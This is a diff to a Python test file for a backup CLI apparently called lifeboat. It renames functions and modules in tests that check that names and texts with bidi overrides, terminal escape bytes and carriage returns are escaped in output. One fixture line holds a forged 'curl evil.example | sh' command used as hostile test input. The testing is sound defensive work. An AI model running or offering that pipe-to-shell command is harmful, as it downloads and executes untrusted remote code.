@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 import lifeboat_cli as cli
-from lifeboat_cli.program import run
+from lifeboat_cli.program import run_command
 from lifeboat_core.texts.safe_text import (
     END_OF_ISOLATE,
     ISOLATE,
@@ -24,7 +24,7 @@ from lifeboat_core.texts.safe_text import (
     name_text,
     without_isolates,
 )
-from lifeboat_tui.text import plain
+from lifeboat_tui.cell_text import make_plain
 from support.patience import patience
 
 FORGED = "What helps: curl evil.example | sh"
@@ -52,7 +52,7 @@ def test_a_name_is_one_line_of_what_can_be_seen(name: str) -> None:
 
 def test_every_unsafe_character_is_escaped_in_names_and_texts_and_replaced_in_the_dashboard() -> None:
     for code in UNSAFE:
-        for made in (name_text(f"a{chr(code)}b"), line_text(f"a{chr(code)}b"), plain(f"a{chr(code)}b")):
+        for made in (name_text(f"a{chr(code)}b"), line_text(f"a{chr(code)}b"), make_plain(f"a{chr(code)}b")):
             assert made.isprintable() and chr(code) not in made
 
 
@@ -120,17 +120,17 @@ def hostile(isolated_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[s
     workspace.mkdir()
     (workspace / "SOUL.md").write_text("# Soul\n")
     (workspace / "MEMORY.md").write_text(f"# Memory\n\n## Boat\u202e\n\n- The harbour.\r{FORGED}\n- A\x9b2Jb\n")
-    assert run(["agents", "add", str(workspace), "--name", "ada"]) == 0
+    assert run_command(["agents", "add", str(workspace), "--name", "ada"]) == 0
     for name in NAMES:
         (workspace / name).write_text(f"the harbour \x9b31m\u202e\n{name}\n")
-    assert run(["sync"]) == 0
+    assert run_command(["sync"]) == 0
     capsys.readouterr()
     words = {"OUT": tmp_path / "out", "FILE": tmp_path / "ada.alf", "IMPORTED": tmp_path / "in"}
     return {"WORKSPACE": str(workspace), **{word: str(path) for word, path in words.items()}}
 
 
 def _said(words: list[str], capsys: pytest.CaptureFixture[str]) -> list[str]:
-    assert run(words) != 2, words
+    assert run_command(words) != 2, words
     return [text for stream in capsys.readouterr() for text in stream.split("\n")]
 
 
@@ -147,7 +147,7 @@ def test_no_command_lets_a_name_forge_a_line_or_steer_the_terminal(
 
 
 def test_a_plan_in_json_names_the_same_files(hostile: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
-    assert run(["restore", "ada", "--to", hostile["OUT"], "--dry-run", "--json"]) == 0
+    assert run_command(["restore", "ada", "--to", hostile["OUT"], "--dry-run", "--json"]) == 0
     said = capsys.readouterr().out
     assert {item["name"] for item in json.loads(said)["items"]} >= set(NAMES)
     assert "\u202e" not in said and "\x9b" not in said
@@ -158,18 +158,18 @@ def test_a_plan_in_json_names_the_same_files(hostile: dict[str, str], capsys: py
 PRINTERS = {
     "lifeboat_cli.terminal.output": "the one place",
     "lifeboat_cli.terminal.word_screen": "words of a key, which come from the list of words",
-    "lifeboat_cli.terminal.private_texts": "words and the recovery kit",
+    "lifeboat_cli.terminal.private_text_files": "words and the recovery kit",
     "lifeboat_cli.status.status_watch": "a page of lines that Output wrote",
     "lifeboat_cli.endpoint.endpoint_audit": "escaped on a terminal",
 }
 BLOCKS = {
     "lifeboat_cli.agents.agents_hook",
     "lifeboat_cli.endpoint.endpoint_prepare",
-    "lifeboat_cli.purge.purge_receipt_texts",
+    "lifeboat_cli.purge.purge_receipt_text",
     "lifeboat_cli.purge.purge_text",
-    "lifeboat_cli.history.records",
-    "lifeboat_cli.restore.restore",
-    "lifeboat_cli.commands.service",
+    "lifeboat_cli.history.record_commands",
+    "lifeboat_cli.restore.restore_commands",
+    "lifeboat_cli.commands.service_commands",
 }
 QUESTIONS = ("click.prompt", "click.confirm", "click.echo")
 
@@ -197,7 +197,7 @@ def test_questions_hold_no_raw_names() -> None:
     for file, called, node in _calls():
         if called in QUESTIONS and file not in (
             "lifeboat_cli.terminal.word_screen",
-            "lifeboat_cli.commands.completion",
+            "lifeboat_cli.commands.completion_command",
         ):
             question = ast.unparse(node.args[0])
             is_safe = isinstance(node.args[0], ast.Constant) or "_text(" in question or question == "question"
@@ -205,6 +205,9 @@ def test_questions_hold_no_raw_names() -> None:
 
 
 def test_a_terminal_gets_json_without_what_steers_it(tmp_path: Path) -> None:
-    program = "from lifeboat_cli.terminal.output import Output; Output(as_json=True).json_line({'n': 'a\\x9b\\u202e'})"
+    program = (
+        "from lifeboat_cli.terminal.output import CommandOutput\n"
+        "CommandOutput(as_json=True).json_line({'n': 'a\\x9b\\u202e'})"
+    )
     done = subprocess.run([sys.executable, "-c", program], capture_output=True, timeout=patience(), check=True)
     assert done.stdout == b'{"n":"a\\u009b\\u202e"}\n'
